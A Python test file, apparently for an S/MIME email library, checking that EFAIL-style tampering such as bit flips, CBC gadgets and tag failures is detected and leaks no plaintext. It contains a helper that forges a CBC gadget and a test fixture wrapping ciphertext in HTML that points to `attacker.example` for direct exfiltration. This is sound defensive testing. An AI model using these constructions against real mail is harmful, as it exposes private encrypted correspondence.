"""EFAIL (USENIX Security 2018) and its family: changed ciphertext releases nothing, and never counts as sealed."""

from __future__ import annotations

import random
from types import TracebackType

import pytest
from asn1crypto import cms

from certs.seals import SealAlgorithm
from certs.smime import algorithms as names
from certs.smime.capabilities import CannotRead, Reading, choose_reading
from certs.smime.decrypt import decrypt, decrypt_letter
from certs.smime.encrypt import encrypt, encrypt_without_integrity
from certs.smime.entity import pkcs7_mime, sealed_octets
from certs.smime.letter import open_letter, seal_letter
from certs.smime.sign import Signer
from certs.smime.verdict import DecryptionFailed, Integrity
from core.message import Message
from core.testing.seal_space import NOW, Member, seal_space

MARKER = b"CONFIDENTIEL"
LETTER = (
    b"From: Anne <anne.test-rivage@ch-rivage.mssante.example>\r\nTo: paul.test-dune@cabinet.mssante.example\r\n"
    b"Subject: compte rendu\r\nDate: Mon, 2 Mar 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/plain\r\n\r\n" + (MARKER + b" : le patient va mieux.\r\n") * 8
)
SPACE = seal_space()
CHAIN = SPACE.chain()
FLIPS = 1_000
OLD = frozenset({SealAlgorithm.AES_256_CBC, SealAlgorithm.RSA_PKCS1})


def read(member: Member, declared: frozenset[SealAlgorithm] = frozenset()) -> Reading:
    reading = choose_reading(member.certificate, declared, permit_legacy=bool(declared))
    assert not isinstance(reading, CannotRead)
    return reading


def flipped(octets: bytes, bit: int) -> bytes:
    changed = bytearray(octets)
    changed[bit // 8] ^= 1 << bit % 8
    return bytes(changed)


@pytest.mark.parametrize("kind", ["rsa-2048", "ec-p256", "x25519"])
@pytest.mark.parametrize("is_signed", [True, False])
def test_a_flipped_bit_anywhere_in_an_encrypted_letter_is_found(kind: str, is_signed: bool) -> None:
    reader = SPACE.reader(kind)
    signer = Signer(SPACE.signer().identity) if is_signed else None
    sealed = seal_letter(LETTER, signer=signer, readings=[read(reader)], at=NOW)
    body = Message(LETTER).body
    chance = random.Random(20260302)
    opened_all_the_same = 0
    for _ in range(FLIPS):
        bit = chance.randrange(len(sealed) * 8)
        try:
            opened = open_letter(flipped(sealed, bit), keys=[reader.identity], chain=CHAIN, now=NOW)
        except DecryptionFailed:
            continue
        if opened.integrity is None:  # the root is no seal any more: what is delivered is ciphertext
            assert opened.seal is None
            assert MARKER not in opened.letter
            continue
        opened_all_the_same += 1
        assert Message(opened.letter).body == body, bit
        assert (opened.seal is not None) == is_signed
        assert b"compte rendu" in opened.letter
    assert opened_all_the_same < FLIPS / 3  # in the fields outside, which are not what is delivered


def test_a_flipped_bit_anywhere_in_what_is_encrypted_is_found() -> None:
    reader = SPACE.reader()
    octets = sealed_octets(seal_letter(LETTER, signer=None, readings=[read(reader)], at=NOW))
    entity = decrypt(octets, [reader.identity]).entity
    start = octets.index(names.algorithm(names.AES_256_GCM)[2:])
    chance = random.Random(1)
    for _ in range(FLIPS):
        with pytest.raises(DecryptionFailed):
            decrypt(flipped(octets, chance.randrange(start * 8, len(octets) * 8)), [reader.identity])
    assert MARKER in entity


@pytest.mark.parametrize("kind", ["rsa-2048", "ec-p256"])
def test_a_flipped_bit_anywhere_in_a_signed_letter_is_found(kind: str) -> None:
    sealed = seal_letter(LETTER, signer=Signer(SPACE.signer(kind).identity), at=NOW)
    good = open_letter(sealed, keys=[], chain=CHAIN, now=NOW)
    assert good.seal is not None
    chance = random.Random(2)
    for _ in range(FLIPS):
        changed = flipped(sealed, chance.randrange(len(sealed) * 8))
        opened = open_letter(changed, keys=[], chain=CHAIN, now=NOW)
        if opened.seal is not None:
            assert opened.seal.entity == good.seal.entity
            assert opened.seal.signer == good.seal.signer
            assert Message(opened.letter).body == Message(good.letter).body


@pytest.mark.parametrize("part", ["tag", "first", "last", "cut"])
@pytest.mark.parametrize("kind", ["rsa-2048", "ec-p256"])
def test_no_octet_is_released_before_the_tag(kind: str, part: str) -> None:
    """Nothing of the plaintext stands anywhere in what a failure leaves behind."""
    reader = SPACE.reader(kind)
    info = cms.ContentInfo.load(sealed_octets(encrypt(LETTER, [read(reader)])))
    inner = info["content"]["auth_encrypted_content_info"]
    octets = inner["encrypted_content"].native
    match part:
        case "tag":
            info["content"]["mac"] = flipped(info["content"]["mac"].native, 3)
        case "first":
            inner["encrypted_content"] = flipped(octets, 0)
        case "last":
            inner["encrypted_content"] = flipped(octets, len(octets) * 8 - 1)
        case "cut":
            inner["encrypted_content"] = octets[:-16]
    letter = pkcs7_mime(info.dump(force=True), b"authEnveloped-data")
    with pytest.raises(DecryptionFailed) as caught:
        decrypt_letter(letter, [reader.identity])
    error: BaseException = caught.value
    assert error.__cause__ is None
    assert error.__context__ is None
    assert not any(MARKER.decode() in text for text in left_behind(error.__traceback__))


def left_behind(trace: TracebackType | None) -> list[str]:
    found = []
    while trace is not None:
        if trace.tb_frame.f_code.co_filename != __file__:
            found += [repr(value) for value in trace.tb_frame.f_locals.values()]
        trace = trace.tb_next
    return found


def gadget(letter: bytes, wanted: bytes) -> bytes:
    """A CBC gadget: the first block of the plaintext becomes what the attacker wants, by the vector alone."""
    info = cms.ContentInfo.load(sealed_octets(letter))
    parameters = info["content"]["encrypted_content_info"]["content_encryption_algorithm"]["parameters"]
    known = b"Content-Type: te"
    vector = bytes(a ^ b ^ c for a, b, c in zip(parameters.native, known, wanted, strict=True))
    info["content"]["encrypted_content_info"]["content_encryption_algorithm"]["parameters"] = vector
    return pkcs7_mime(info.dump(force=True), b"enveloped-data")


def test_a_cbc_gadget_is_marked_and_never_sealed() -> None:
    reader = SPACE.reader()
    entity = b"Content-Type: text/plain\r\n\r\n" + MARKER + b"\r\n"
    letter = gadget(encrypt_without_integrity(entity, [read(reader, OLD)]), b"<img src='//x/?'")
    opened = open_letter(letter, keys=[reader.identity], chain=CHAIN, now=NOW)
    assert opened.integrity is Integrity.NONE
    assert opened.seal is None


def test_a_cbc_gadget_breaks_the_signature_inside() -> None:
    reader = SPACE.reader()
    signer = Signer(SPACE.signer().identity)
    letter = seal_letter(LETTER, signer=signer, readings=[read(reader, OLD)], at=NOW)
    changed = flipped(sealed_octets(letter), 8 * 700)
    try:
        opened = open_letter(
            pkcs7_mime(changed, b"enveloped-data"), keys=[reader.identity], chain=CHAIN, now=NOW
        )
    except DecryptionFailed:
        return
    assert opened.seal is None


def test_an_authenticated_letter_dressed_as_cbc_is_not_authentic() -> None:
    reader = SPACE.reader()
    source = cms.ContentInfo.load(sealed_octets(encrypt(LETTER, [read(reader)])))["content"]
    ciphertext = source["auth_encrypted_content_info"]["encrypted_content"].native
    dressed = cms.ContentInfo(
        {
            "content_type": "enveloped_data",
            "content": {
                "version": "v2",
                "recipient_infos": source["recipient_infos"],
                "encrypted_content_info": {
                    "content_type": "data",
                    "content_encryption_algorithm": {"algorithm": "aes256_cbc", "parameters": bytes(16)},
                    "encrypted_content": ciphertext[: len(ciphertext) // 16 * 16],
                },
            },
        }
    ).dump()
    try:
        opened = decrypt(dressed, [reader.identity])
    except DecryptionFailed:
        return
    assert opened.integrity is Integrity.NONE
    assert MARKER not in opened.entity


@pytest.mark.parametrize("kind", ["multipart/mixed", "multipart/alternative", "multipart/related"])
def test_direct_exfiltration_a_nested_ciphertext_is_never_opened(kind: str) -> None:
    reader = SPACE.reader()
    inner = encrypt(LETTER, [read(reader)])
    letter = (
        b"From: a@cabinet.mssante.example\r\nContent-Type: " + kind.encode() + b"; boundary=b\r\n\r\n"
        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/\r\n--b\r\n'
        + inner
        + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    opened = open_letter(letter, keys=[reader.identity], chain=CHAIN, now=NOW)
    assert opened.letter == letter
    assert (opened.integrity, opened.seal) == (None, None)
    twice = encrypt(inner, [read(reader)])
    assert MARKER not in open_letter(twice, keys=[reader.identity], chain=CHAIN, now=NOW).letter
